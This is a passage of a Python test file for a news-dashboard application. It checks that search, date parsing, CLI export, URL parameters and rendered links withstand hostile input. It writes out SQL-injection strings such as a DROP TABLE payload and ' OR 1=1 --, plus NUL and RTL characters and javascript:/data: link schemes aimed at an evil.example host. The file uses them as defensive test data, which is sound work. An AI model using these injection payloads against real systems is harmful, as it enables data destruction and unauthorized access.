        assert got["kpis"]["articles"] == 0 and got["decision_count"] == 0


@pytest.mark.parametrize("value", HOSTILE_STRINGS.values(), ids=HOSTILE_STRINGS.keys())
def test_fts_query_quotes_every_word(value) -> None:
    """The search box's parser leaves nothing a user typed unquoted: outside quoted strings (and
    their prefix star) only the operators it writes itself (AND, OR, brackets)."""
    query = read_filters.fts_query(value)
    if query is None:
        return
    for term in re.findall(r'"(?:[^"]|"")*"\*?|\(|\)|[^\s()]+', query):
        assert term in ("AND", "OR", "(", ")") or (term.startswith('"') and term.rstrip("*").endswith('"')), (
            value[:40],
            term[:40],
        )


def test_search_finds_literal_text(ro_conn) -> None:
    """Search still works on hostile text: a lead article is found by words of its title."""
    f = Filters(text="HYPERLINK evil.example title")
    assert read_totals.kpis(ro_conn, f)["articles"] == len(LEADS)


@pytest.mark.parametrize("value", [*HOSTILE_STRINGS.values(), "2026-13-45", "2026-02-30", "99999-01-01", ""])
def test_parse_day_returns_a_date_or_a_filter_error(value) -> None:
    """A hostile date is a :class:`FilterError` (a documented newsdesk error), never another exception."""
    try:
        got = view_filters.parse_day(value, "--since")
    except FilterError as exc:
        assert "YYYY-MM-DD" in str(exc)
    else:
        assert got is None or isinstance(got, date)


@pytest.mark.parametrize("value", [-1.0, float("nan"), float("inf"), float("-inf"), 1e308, 0.0])
def test_odd_min_impact_values_run(ro_conn, value) -> None:
    """A negative, NaN or infinite minimum impact runs every query (no row or every row, no error)."""
    got = _all_queries(ro_conn, Filters(min_impact=value))
    assert len(got["articles"]) == got["kpis"]["articles"]


@pytest.mark.parametrize(
    "args",
    [
        ["--since", "'; DROP TABLE articles; --"],
        ["--until", "2026-13-45"],
        ["--since", "\x00"],
        ["--topic", "' OR 1=1 --"],
        ["--topic", "x" * 10_000],
    ],
    ids=["since-drop", "until-month-13", "since-nul", "topic-or", "topic-10k"],
)
def test_cli_export_rejects_hostile_filters_cleanly(hostile_db, tmp_path, args) -> None:
    """The CLI answers hostile filter values with exit 1 and an ``Error:`` line, never a traceback,
    and writes nothing."""
    path, _ = hostile_db
    before = table_counts(path)
    out = tmp_path / "out.csv"
    result = CliRunner().invoke(cli, ["export", "articles", "-o", str(out), "--db", str(path), *args])
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit), result.output
    assert result.stderr.startswith("Error: ") and "Traceback" not in result.output
    assert not out.exists()
    assert table_counts(path) == before


def test_until_the_last_representable_day_is_a_filter_not_a_crash(ro_conn) -> None:
    """``until=9999-12-31`` is a valid YYYY-MM-DD day: it must filter (everything), not raise."""
    f = Filters(until=view_filters.parse_day("9999-12-31"))
    assert read_totals.kpis(ro_conn, f)["articles"] == read_totals.kpis(ro_conn, Filters())["articles"]


def test_cli_export_until_the_last_representable_day(hostile_db, tmp_path) -> None:
    """The CLI answers ``--until 9999-12-31`` with the CSV (or an ``Error:`` line), never a traceback."""
    path, _ = hostile_db
    out = tmp_path / "out.csv"
    result = CliRunner().invoke(cli, ["export", "articles", "-o", str(out), "--db", str(path), "--until", "9999-12-31"])
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)


@pytest.mark.parametrize("day", ["0001-01-08", "9999-12-24"])
def test_overview_opens_with_an_article_at_the_edge_of_the_date_range(tmp_path, monkeypatch, day) -> None:
    """The ingest path accepts publish days from 0001-01-08 to 9999-12-24; one hostile article dated
    at either edge, beside a current one, must not crash the Overview."""
    src = tmp_path / "edge.jsonl"
    records = [
        {"title": "Edge of time", "source": "Edge Wire", "published_at": f"{day}T00:00:00Z", "summary": "Odd."},
        {"title": "Today", "source": "Edge Wire", "published_at": "2026-05-01T00:00:00Z", "summary": "Fine."},
    ]
    src.write_text("\n".join(json.dumps(r) for r in records), encoding="utf-8")
    db = schema.connect(tmp_path / "edge.db")
    assert pipeline.ingest_paths(db, [src]).added == 2
    db.close()
    monkeypatch.setenv("NEWSDESK_DB", str(tmp_path / "edge.db"))
    at = run_page("dashboard.py")
    assert not at.exception, at.exception[0].value


# the dashboard: every page, hostile URL parameters (a representative subset; the full table ran above)
PAGES = [
    "dashboard.py",
    "pages/1_Decisions.py",
    "pages/2_Articles.py",
    "pages/3_Article.py",
    "pages/4_Baskets.py",
    "pages/5_Ingest.py",
]
MULTI_VALUES = [*HOSTILE_STRINGS.values(), "basket:'; DROP TABLE baskets; --"]
URL_CASES = {
    "q-sql": {"q": "'; DROP TABLE articles; -- ' OR 1=1 --"},
    "q-fts-nul-rtl-emoji-10k": {
        "q": 'NEAR( "unbalanced title:x * ^ a AND OR NOT { ) col:val \x00\u202e🚀 ' + "x" * 10_000
    },
    "multi-all-strings": {
        "topic": MULTI_VALUES,
        "source": MULTI_VALUES,
        "company": MULTI_VALUES,
        "label": MULTI_VALUES,
    },
    "impact-abc-bad-dates-page-params": {
        "min_impact": "abc",
        "since": "2026-13-45",
        "until": "'; DROP TABLE articles; --",
        "id": "' OR 1=1 --",
        "basket": "'; DROP TABLE baskets; --",
        "trades": "\x00",
        "direction": "' OR 1=1 --",
        "status": "NEAR(",
        "grain": "'; DROP",
    },
    "impact-nan-extreme-dates": {"min_impact": "NaN", "since": "9999-12-31", "until": "0001-01-01"},
    "impact-1e309": {"min_impact": "1e309"},
    "impact-negative": {"min_impact": "-1"},
}
FULL_VIEW = {"multi-all-strings", "impact-abc-bad-dates-page-params", "impact-negative"}  # every value ignored


@pytest.fixture(scope="module")
def before_counts(hostile_db) -> dict[str, int]:
    return table_counts(hostile_db[0])


@pytest.mark.parametrize("case", URL_CASES)
@pytest.mark.parametrize("page", PAGES)
def test_hostile_url_params_on_every_page(env, before_counts, page, case) -> None:
    """A pasted URL full of hostile values opens every page without an exception element, the
    sidebar holds sane values only (known options, a finite impact in 0..1, at most 200 search
    characters), ignored values leave the URL, the articles table shows every article when the
    hostile values were ignored, and the database keeps every table and row."""
    path, _ = env
    params = URL_CASES[case]
    at = run_page(page, params)
    assert not at.exception, at.exception
    assert table_counts(path) == before_counts
    impact = at.slider(key="w_min_impact").value
    assert math.isfinite(impact) and 0.0 <= impact <= 1.0
    assert len(at.text_input(key="w_text").value) <= 200
    for key in ("w_topics", "w_labels", "w_sources", "w_companies"):
        assert not set(at.multiselect(key=key).value) & set(MULTI_VALUES)
    if case == "multi-all-strings":
        for name in ("topic", "source", "company", "label"):
            assert name not in at.query_params
    if case in FULL_VIEW and page in ("dashboard.py", "pages/2_Articles.py"):
        table = at.dataframe[-1].value
        assert len(table) == before_counts["articles"]


# ------------------------------------------------------------------------------- one real browser


@pytest.mark.browser
def test_planted_hostile_urls_are_never_links_in_chromium(hostile_db, tmp_path) -> None:
    """In a real Chromium on a real server (journey (e) of test_browser.py ingests its hostile URL,
    which the write path drops; here the URLs are planted in the database): the Article page of an
    article whose stored URL is a ``data:`` URL, whose mirrors ("Also carried by") carry every hostile
    URL, whose summary holds an image, an HTML anchor and a reference definition to it and whose
    decision card holds a Markdown link and an autolink to it, has no anchor, frame, object or form
    leading anywhere but http(s) (resolved by the browser's own URL parser, which strips control
    characters and tabs), no dialog opens, and the https mirror is linked."""
    from playwright.sync_api import sync_playwright

    from tests.browser_util import CHROMIUM, CHROMIUM_ARGS, require_chromium, streamlit_server, wait_idle

    require_chromium()
    path, ids = hostile_db
    targets = [f"/Article?id={ids['links']['data']}"]  # one page load; every other page: AppTest above
    collect = """() => [...document.querySelectorAll(
        'a[href], area[href], iframe[src], frame[src], object[data], embed[src], form[action], img[src]')]
        .map(e => {
            const raw = e.getAttribute('href') ?? e.getAttribute('src') ?? e.getAttribute('data')
                ?? e.getAttribute('action') ?? '';
            let resolved;
            try { resolved = new URL(raw, location.href).href; } catch (err) { resolved = 'invalid:' + raw; }
            return [e.tagName, raw, resolved];
        })"""
    seen_safe = False
    with sync_playwright() as p, streamlit_server(path, tmp_path / "s.log") as url:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS, headless=True)
        page = browser.new_page(viewport={"width": 1440, "height": 1000})
        dialogs: list[str] = []
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        for target in targets:
            page.goto(url + target, timeout=120_000)
            wait_idle(page, timeout=120_000)
            page.wait_for_timeout(300)
            assert page.get_by_test_id("stException").count() == 0, target
            for tag, raw, resolved in page.evaluate(collect):
                if tag == "IMG" and not raw.lower().lstrip().startswith(("data:text", "javascript:", "vbscript:")):
                    continue  # Streamlit's own images (icons) are not links
                assert re.match(r"https?://", resolved, re.I), (target, tag, raw)
                assert "evil.example" not in resolved, (target, tag, raw)
                assert not raw.strip().startswith(("//", "\\")), (target, tag, raw)
                seen_safe |= resolved == MIRROR_URL
            assert page.get_by_test_id("stMain").get_by_text("javascript", exact=False).count() >= 1, target
        browser.close()
    assert dialogs == []
    assert seen_safe, "the https mirror's link is missing: the check would not see a link"
